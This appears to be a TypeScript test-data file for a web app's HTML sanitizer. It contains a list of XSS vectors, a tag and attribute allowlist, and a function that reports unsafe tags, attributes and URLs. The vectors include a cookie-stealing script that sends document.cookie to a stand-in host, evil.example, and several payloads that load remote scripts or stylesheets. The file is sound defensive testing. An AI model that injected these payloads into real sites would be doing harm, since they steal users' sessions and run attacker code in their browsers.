// Test data only (not exported from the package): XSS vectors posted as shot content, titles, tags
// and comments by the server suite, and rendered through SafeHtml by the browser suite.
export const XSS_VECTORS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
  '<script>document.location="https://evil.example/?c="+document.cookie</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="/files/a.png" onerror="alert(1)">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<img src=/ onerror="alert(String.fromCharCode(88,83,83))">',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '<img src="//evil.example/x.png">',
  '<img srcset="javascript:alert(1)">',
  '<a href="javascript:alert(1)">点我</a>',
  '<a href="JaVaScRiPt:alert(1)">点我</a>',
  '<a href="  javascript:alert(1)">点我</a>',
  '<a href="jav&#x0A;ascript:alert(1)">点我</a>',
  '<a href="vbscript:msgbox(1)">点我</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点我</a>',
  '<a href="https://example.com" onclick="alert(1)">点我</a>',
  '<a href="https://example.com" onmouseover="alert(1)" style="position:fixed;inset:0">全屏</a>',
  '<a href="//evil.example">协议相对</a>',
  '<a href="https://example.com" target="_blank" rel="opener">opener</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<form action="javascript:alert(1)"><button>提交</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<marquee onstart=alert(1)>跑马灯</marquee>',
  '<div style="background:url(javascript:alert(1))">样式</div>',
  '<p style="behavior:url(x.htc)">IE</p>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<p onclick="alert(1)">段落</p>',
  '<p><strong onmouseover="alert(1)">粗体</strong></p>',
  '<h1 id="x" class="y" onclick="alert(1)">标题</h1>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</p><script>alert(1)</script><p>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<textarea><script>alert(1)</script></textarea>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<xss id=x tabindex=1 onfocusin=alert(1)></xss>',
  '<a href="https://example.com/" xlink:href="javascript:alert(1)">xlink</a>',
  '<img src="https://example.com/a.png" width="100%" height="expression(alert(1))">',
  '<pre><code onclick="alert(1)">代码</code></pre>',
];

/** Tags and attributes the shot allowlist keeps (server) and SafeHtml lets through (browser). */
export const ALLOWED_TAGS = new Set(['p', 'h1', 'h2', 'h3', 'h4', 'strong', 'em', 'u', 's', 'a', 'img', 'ul', 'ol', 'li', 'blockquote', 'pre', 'code', 'br', 'hr']);
export const ALLOWED_ATTRIBUTES: Record<string, Set<string>> = {
  a: new Set(['href', 'rel', 'target']),
  img: new Set(['src', 'alt', 'width', 'height']),
};

/**
 * Problems of an HTML string against the allowlist: any other tag, any other attribute, any
 * URL that is not http(s), mailto or a path on this site. Empty means the HTML is inert.
 */
export function unsafeParts(html: string): string[] {
  const problems: string[] = [];
  for (const match of html.matchAll(/<\s*\/?\s*([a-z0-9:-]+)([^>]*)>/gi)) {
    const tag = match[1].toLowerCase();
    if (!ALLOWED_TAGS.has(tag)) problems.push(`tag <${tag}>`);
    for (const attr of match[2].matchAll(/([^\s="'/]+)\s*(?:=\s*("[^"]*"|'[^']*'|[^\s>]+))?/g)) {
      const name = attr[1].toLowerCase();
      const value = (attr[2] ?? '').replace(/^["']|["']$/g, '').trim();
      if (!ALLOWED_ATTRIBUTES[tag]?.has(name)) problems.push(`attribute ${name} on <${tag}>`);
      if ((name === 'href' || name === 'src') && !/^(https?:\/\/|mailto:|\/(?!\/))/i.test(value)) problems.push(`url ${value}`);
      if (name === 'rel' && !/noopener/.test(value)) problems.push('link without noopener');
    }
  }
  return problems;
}
